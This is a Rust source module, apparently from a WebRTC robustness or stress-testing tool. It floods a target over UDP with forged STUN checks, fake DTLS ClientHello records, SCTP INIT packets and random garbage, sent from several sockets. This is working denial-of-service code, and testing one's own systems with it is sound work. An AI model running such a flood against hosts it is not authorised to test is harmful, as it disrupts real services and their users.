//! Datagrams of strangers: no session, one UDP packet after the other.

use std::io::ErrorKind;
use std::net::{IpAddr, SocketAddr, UdpSocket};

use rand::RngCore;

use crate::session::check;
use crate::{Outcome, Result, Stop, Target};

/// As many sources; a source counts for nothing before it has proved something.
const SOURCES: usize = 16;

/// Different datagrams, made beforehand: what is slow to make would slow the flood down.
const VARIANTS: usize = 1024;

pub(crate) fn attack(kind: &str, target: &Target, stop: &Stop) -> Result<Outcome> {
    let variants: Vec<Vec<u8>> = (0..VARIANTS).map(|_| datagram(kind, target)).collect();
    let sources = match target.local_port {
        // Somebody who speaks from the peer's own address.
        Some(port) => vec![source(target, port)?],
        None => (0..SOURCES).map(|_| source(target, 0)).collect::<Result<_>>()?,
    };
    let mut sent = 0;
    while !stop.is_set() {
        for (index, datagram) in variants.iter().enumerate() {
            match sources[index % sources.len()].send(datagram) {
                Ok(_) => sent += 1,
                // The answer to an earlier one, where nobody listens any more.
                Err(error) if error.kind() == ErrorKind::ConnectionRefused => {}
                Err(error) => return Err(error.into()),
            }
        }
    }
    Ok(Outcome { sent, ended: false })
}

fn source(target: &Target, port: u16) -> Result<UdpSocket> {
    let unspecified: IpAddr = if target.ip.is_ipv4() { [0; 4].into() } else { [0u16; 8].into() };
    let ip = if target.ip.is_loopback() { target.ip } else { unspecified };
    let socket = UdpSocket::bind(SocketAddr::new(ip, port))?;
    socket.connect(target.address())?;
    Ok(socket)
}

fn datagram(kind: &str, target: &Target) -> Vec<u8> {
    let ours = target.username_fragment.as_deref().unwrap_or("nobody");
    match kind {
        "stun-ufrag" => check(&random_letters(), "a password of nobody at all"),
        "stun-integrity" => check(ours, "the password of somebody else"),
        "client-hello" => client_hello(),
        "init" => init(),
        "garbage" => {
            let mut rng = rand::rng();
            let mut bytes = vec![0; 1 + rng.next_u32() as usize % 1200];
            rng.fill_bytes(&mut bytes);
            bytes
        }
        other => panic!("there is no kind {other:?}"),
    }
}

fn random_letters() -> String {
    let mut bytes = [0; 32];
    rand::rng().fill_bytes(&mut bytes);
    bytes.iter().map(|byte| char::from(b'a' + byte % 26)).collect()
}

/// A record with a ClientHello as far as anybody looks at it (RFC 6347 §4.1, §4.2.2).
fn client_hello() -> Vec<u8> {
    const BODY: u8 = 120;
    let mut bytes = vec![22, 254, 253, 0, 0, 0, 0, 0, 0, 0, 0, 0, 12 + BODY];
    bytes.extend([1, 0, 0, BODY, 0, 0, 0, 0, 0, 0, 0, BODY, 254, 253]);
    let mut rest = [0; BODY as usize - 2];
    rand::rng().fill_bytes(&mut rest);
    bytes.extend(rest);
    bytes
}

/// An INIT with a tag of its own (RFC 9260 §3.3.2).
fn init() -> Vec<u8> {
    let tag = rand::rng().next_u32() | 1;
    crate::sctp::packet(0, &[crate::sctp::init(tag, tag)])
}
